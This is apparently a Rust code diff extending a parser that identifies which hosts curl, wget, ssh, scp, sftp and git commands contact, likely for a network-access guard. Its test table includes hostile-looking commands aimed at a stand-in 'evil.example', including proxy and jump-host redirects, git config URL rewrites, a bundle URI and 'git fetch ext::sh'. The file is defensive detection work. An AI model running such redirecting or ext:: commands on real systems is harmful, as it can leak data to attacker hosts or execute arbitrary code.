@@ -24,6 +24,8 @@ enum Operands {
     Addresses,
     /// The first is a machine, the rest a command for it.
     Machine,
+    /// The first is a machine, and a path on it behind a colon.
+    Session,
     /// Each with a colon in it lies on a machine, the others here.
     Places,
 }
@@ -78,7 +80,7 @@ const CURL: Client = Client {
 const WGET: Client = Client {
     operands: Operands::Addresses,
     letters: "aABDeiIlOoPQRtTUwX",
-    valued: "accept accept-regex append-output backups base bind-address body-data body-file ca-certificate ca-directory \
+    valued: "accept accept-regex append-output base bind-address body-data body-file ca-certificate ca-directory \
         certificate certificate-type ciphers compression config connect-timeout crl-file cut-dirs default-page \
         directory-prefix dns-servers dns-timeout domains exclude-directories exclude-domains execute follow-tags \
         ftp-password ftp-user header http-password http-user ignore-tags include-directories input-file level \
@@ -97,8 +99,8 @@ const SSH: Client = Client {
     letters: "BbcDEeFIiJLlmOoPpQRSWw",
     valued: "",
     address: &["J"],
-    // `-o HostName=…`, `-o ProxyCommand=…`, and a file of them.
-    elsewhere: &["o", "F", "W", "S"],
+    // `-o HostName=…`, `-o ProxyCommand=…`, and a file of them. `-P` takes a value in some versions only.
+    elsewhere: &["o", "F", "W", "S", "P"],
 };
 
 /// Of `scp(1)`, OpenSSH 9.
@@ -107,7 +109,7 @@ const SCP: Client =
 
 /// Of `sftp(1)`, OpenSSH 9.
 const SFTP: Client =
-    Client { operands: Operands::Machine, letters: "BbcDFiJloPRSsX", elsewhere: &["o", "F", "S", "D", "b"], ..SSH };
+    Client { operands: Operands::Session, letters: "BbcDFiJloPRSsX", elsewhere: &["o", "F", "S", "D", "b"], ..SSH };
 
 /// The hosts that a call of one of these clients asks, in the order of its words; `None` stands for one that its text does not name.
 /// No list for another program, whose options are not known here.
@@ -129,22 +131,36 @@ pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
     // Whether the next word is the value of an option, and of which one.
     let mut value_of: Option<String> = None;
     let (mut only_operands, mut had_machine) = (false, false);
+    // The word at hand may be the value of what stands before it.
+    let mut may_be_value = false;
     for arg in &call.args {
         let text = arg.text.as_str();
         if let Some(option) = value_of.take() {
-            if client.address.contains(&option.as_str()) {
-                note(client.operands.host(arg));
-            }
+            client.value(&option, arg, &mut note);
             continue;
         }
         // Options may stand behind the machine; what follows is the command for it.
-        if had_machine && client.operands == Operands::Machine && !text.starts_with('-') {
+        if had_machine
+            && client.operands != Operands::Addresses
+            && client.operands != Operands::Places
+            && !text.starts_with('-')
+        {
             break;
+        }
+        // What is not known of an option may be another one.
+        if !only_operands && text.starts_with('-') && arg.exact().is_none() {
+            note(None);
+            continue;
         }
         if only_operands || !text.starts_with('-') || text == "-" {
             // What begins in an unknown way may be an option, too: one that leads elsewhere.
             let host = if arg.may_be_option() && arg.exact().is_none() { None } else { client.operands.host(arg) };
-            had_machine = true;
+            let is_value = std::mem::take(&mut may_be_value);
+            had_machine |= !is_value;
+            // A number or a word is more likely that.
+            if is_value && host.as_ref().is_none_or(|host| !host.contains(['.', ':'])) {
+                continue;
+            }
             if host.is_some() || client.operands != Operands::Places || arg.exact().is_none() {
                 note(host);
             }
@@ -152,16 +168,24 @@ pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
             only_operands = true;
         } else if let Some(long) = text.strip_prefix("--") {
             let (long, glued) = long.split_once('=').map_or((long, None), |(long, value)| (long, Some(value)));
-            // Both take the beginning of a name for the whole; one that begins several is the longest of them to nobody.
+            // Both take the beginning of a name for the whole. A whole name may begin another one, which takes a value: then what
+            // follows is either.
             let is_meant = |option: &str| option.starts_with(long);
-            let meant = |list: &[&str]| list.iter().any(|option| is_meant(option));
-            if meant(client.elsewhere) {
+            if client.elsewhere.iter().any(|option| is_meant(option)) {
                 note(None);
             }
-            match glued {
-                Some(value) if meant(client.address) => note(client.operands.host(&Arg::literal(value))),
-                None if client.valued.split(' ').any(is_meant) => value_of = Some(long.to_owned()),
-                _ => {}
+            let whole = client.valued.split(' ').find(|option| *option == long);
+            let option = whole.or_else(|| client.valued.split(' ').find(|option| is_meant(option)));
+            match (option, glued) {
+                (Some(option), Some(value)) => client.value(option, &Arg::literal(value), &mut note),
+                (Some(option), None) if whole.is_some() => value_of = Some(option.to_owned()),
+                (Some(option), None) => {
+                    may_be_value = true;
+                    if client.address.contains(&option) {
+                        note(None);
+                    }
+                }
+                (None, _) => {}
             }
         } else if let Some((letter, value)) = short_option(text, client.letters) {
             let mut bytes = [0; 4];
@@ -171,7 +195,9 @@ pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
             }
             // `wget -nv`: the letter behind `n` is a word of its own.
             let is_word = name == "wget" && text.starts_with("-n");
-            if value.is_empty() && !is_word {
+            if !value.is_empty() {
+                client.value(letter, &Arg::literal(value), &mut note);
+            } else if !is_word {
                 value_of = Some(letter.to_owned());
             }
         }
@@ -179,26 +205,162 @@ pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
     Some(found)
 }
 
+impl Client {
+    /// Takes note of the hosts in the value of an option.
+    fn value(&self, option: &str, value: &Arg, note: &mut impl FnMut(Option<String>)) {
+        if !self.address.contains(&option) {
+            return;
+        }
+        if option != "J" {
+            note(self.operands.host(value));
+        } else if value.exact().is_none() {
+            note(None);
+        } else {
+            // Machines on the way, each with a port behind a colon.
+            for machine in value.text.split(',') {
+                note(Operands::Session.host(&Arg::literal(machine)));
+            }
+        }
+    }
+}
+
+/// Where the path begins in what scp and sftp take: at the first colon outside of brackets, if there is no slash before it.
+fn colon(text: &str) -> Option<usize> {
+    let bytes = text.as_bytes();
+    let mut in_brackets = text.starts_with('[');
+    for (at, byte) in bytes.iter().enumerate() {
+        let next = bytes.get(at + 1);
+        match byte {
+            b'@' if next == Some(&b'[') => in_brackets = true,
+            b']' if in_brackets && next == Some(&b':') => return Some(at + 1),
+            b':' if at > 0 && !in_brackets => return Some(at),
+            b':' if at == 0 => return None,
+            b'/' => return None,
+            _ => {}
+        }
+    }
+    None
+}
+
 impl Operands {
     /// The host that an operand names, if it names one.
     fn host(self, arg: &Arg) -> Option<String> {
         match self {
             Self::Addresses => host_of(arg),
-            Self::Machine | Self::Places => {
+            Self::Machine | Self::Session | Self::Places => {
                 let text = arg.text.as_str();
-                if text.contains("://") {
+                if ["ssh://", "scp://", "sftp://"].iter().any(|scheme| text.starts_with(scheme)) {
                     return host_of(arg);
                 }
-                // As OpenSSH does: a colon behind a slash is a part of a path.
-                let end = text.find(|c| c == ':' || self == Self::Places && c == '/');
-                let ends = end.is_some() || arg.exact().is_some();
-                let named = end.map_or(Some(text), |end| text.get(..end)).filter(|_| ends)?;
-                let is_here = self == Self::Places && end.is_none_or(|end| text.as_bytes().get(end) != Some(&b':'));
-                let host = named.rsplit('@').next().unwrap_or(named).trim_matches(['[', ']']);
-                (!is_here && !host.is_empty()).then(|| host.to_ascii_lowercase())
+                let end = if self == Self::Machine { None } else { colon(text) };
+                if end.is_none() && (self == Self::Places || arg.exact().is_none()) {
+                    return None;
+                }
+                let named = end.map_or(Some(text), |end| text.get(..end))?;
+                let host = named.rsplit('@').next().unwrap_or(named);
+                let host = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
+                (!host.is_empty()).then(|| host.to_ascii_lowercase())
             }
         }
     }
+}
+
+/// The hosts that a subcommand of git which talks to a remote names, behind its own name: the remote, or its address, stands first.
+/// None where it is a name, which settings give an address.
+pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
+    const VALUED: &[&str] = &[
+        "-o",
+        "--push-option",
+        "-b",
+        "--branch",
+        "-u",
+        "--upload-pack",
+        "--depth",
+        "-c",
+        "--config",
+        "--template",
+        "--reference",
+        "-j",
+        "--jobs",
+        "--origin",
+        "--filter",
+        "--separate-git-dir",
+        "--repo",
+        "--exec",
+        "--receive-pack",
+        "--refmap",
+        "--shallow-since",
+        "--shallow-exclude",
+        "-t",
+        "-m",
+        "-s",
+        "--strategy",
+        "-X",
+        "--server-option",
+        "--bundle-uri",
+        "--recurse-submodules-default",
+        "--negotiation-tip",
+        "-l",
+        "--sort",
+        "--format",
+        "--prefix",
+    ];
+    // What says where it sends instead, or besides.
+    const ELSEWHERE: &[&str] =
+        &["-c", "--config", "--bundle-uri", "--reference", "-u", "--upload-pack", "--exec", "--receive-pack"];
+    let mut found = Vec::new();
+    let mut note = |host: Option<String>| {
+        if !found.contains(&host) {
+            found.push(host);
+        }
+    };
+    let mut value_of = None;
+    let mut operands = 0;
+    for arg in rest {
+        let text = arg.text.as_str();
+        if let Some(option) = value_of.take() {
+            match option {
+                "--repo" | "--bundle-uri" => note(git_address(arg)),
+                _ => {}
+            }
+        } else if text.starts_with('-') && text.len() > 1 {
+            let (name, glued) = text.split_once('=').map_or((text, None), |(name, value)| (name, Some(value)));
+            if ELSEWHERE.contains(&name) {
+                note(None);
+            }
+            match glued {
+                Some(value) if matches!(name, "--remote" | "--repo" | "--bundle-uri") => {
+                    note(git_address(&Arg::literal(value)));
+                }
+                None => value_of = VALUED.iter().copied().find(|option| *option == name),
+                Some(_) => {}
+            }
+        } else {
+            operands += 1;
+            // `remote`, `submodule` and `lfs` have a word of their own first, and `archive` none.
+            let at = if matches!(subcommand, "remote" | "submodule" | "lfs" | "maintenance") { 2 } else { 1 };
+            let several = text.contains("://") && (subcommand != "archive" || operands == 1);
+            if subcommand != "archive" && operands == at || several {
+                note(git_address(arg));
+            }
+        }
+    }
+    found
+}
+
+/// The host in what git takes for a remote: a URL, or `host:path`. `None` for a name, or a path of this machine.
+fn git_address(arg: &Arg) -> Option<String> {
+    let text = arg.text.as_str();
+    if let Some((_, address)) = text.split_once("::") {
+        return host_of(&Arg { text: address.to_owned(), ..arg.clone() });
+    }
+    if text.contains("://") {
+        return host_of(arg);
+    }
+    let end = colon(text)?;
+    let host = text.get(..end)?.rsplit('@').next()?;
+    let host = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
+    (!host.is_empty()).then(|| host.to_ascii_lowercase())
 }
 
 /// The host of an address as web clients read it: with one slash or three behind the scheme, with none, or without a scheme.
@@ -207,6 +369,8 @@ fn host_of(arg: &Arg) -> Option<String> {
     let text = arg.text.as_str();
     let scheme = text.find(|c: char| !c.is_ascii_alphanumeric() && !"+.-".contains(c));
     let rest = match scheme.and_then(|at| text.split_at_checked(at)) {
+        // It names a file of this machine.
+        Some((scheme, rest)) if scheme.eq_ignore_ascii_case("file") && rest.starts_with(":/") => return None,
         Some((_, rest)) if rest.starts_with(":/") => rest.trim_start_matches(':'),
         _ => text,
     };
@@ -255,9 +419,26 @@ mod tests {
             ("curl \"https://$x.example\"", vec![unnamed]),
             ("curl \"https://a.example/$x\"", vec![a]),
             ("curl $x", vec![unnamed]),
-            ("curl https://a.example --prox evil.example", vec![a, unnamed]),
+            ("curl https://a.example --prox evil.example", vec![a, unnamed, evil]),
             ("curl https://a.example -xevil.example", vec![a, unnamed]),
             ("curl localhost -d @x", vec![Some("localhost")]),
+            ("curl --head evil.example https://a.example", vec![evil, a]),
+            ("curl https://a.example --netrc evil.example/page", vec![a, evil]),
+            ("curl --retry 3 --max-t 5 https://a.example", vec![a]),
+            ("curl -o\"$x\" evil.example https://a.example", vec![unnamed, evil, a]),
+            ("curl -s$x https://a.example", vec![unnamed, a]),
+            ("curl file:///etc/x", vec![unnamed]),
+            ("wget --backups evil.example a.example", vec![evil, a]),
+            ("wget -qO- https://a.example --backups evil.example/page", vec![a, evil]),
+            ("ssh a.example:x@evil.example", vec![evil]),
+            ("ssh 'x://a.example/@evil.example'", vec![evil]),
+            ("scp f 'evil.example://a.example/x'", vec![evil]),
+            ("sftp 'evil.example://a.example/x'", vec![evil]),
+            ("scp f '[a.example:x@[evil.example]:f'", vec![evil]),
+            ("ssh -Jevil.example a.example", vec![evil, a]),
+            ("ssh -J b.example:22,u@evil.example:22 a.example", vec![Some("b.example"), evil, a]),
+            ("scp f 'u@[2001:db8::1]:x'", vec![Some("2001:db8::1")]),
+            ("ssh 2001:db8::1", vec![Some("2001:db8::1")]),
             ("wget -q a.example", vec![a]),
             ("wget -nv a.example", vec![a]),
             ("wget -qO- https://a.example/x", vec![a]),
@@ -272,6 +453,17 @@ mod tests {
             ("scp u@a.example:x evil.example:y", vec![a, evil]),
             ("scp -i k ./x:y a.example:z", vec![a]),
             ("sftp a.example", vec![a]),
+            ("git push origin main", vec![unnamed]),
+            ("git push https://u@a.example/x main", vec![a]),
+            ("git push evil.example:x main", vec![evil]),
+            ("git push -o x=https://a.example evil.example:x main", vec![evil]),
+            ("git push evil.example:p main@a.example:x", vec![evil]),
+            ("git clone -b user@a.example evil.example:x d", vec![evil]),
+            ("git archive --remote=evil.example:x HEAD u@a.example:", vec![evil]),
+            ("git clone --bundle-uri=http://evil.example/b http://a.example/y", vec![unnamed, evil, a]),
+            ("git -c url.http://evil.example/.insteadOf=http://a.example/ fetch http://a.example/x", vec![unnamed, a]),
+            ("git clone --config http.proxy=evil.example https://a.example/x", vec![unnamed, a]),
+            ("git fetch ext::sh", vec![Some("sh")]),
         ] {
             let found = hosts(command);
             let found: Vec<Option<&str>> = found.iter().map(Option::as_deref).collect();
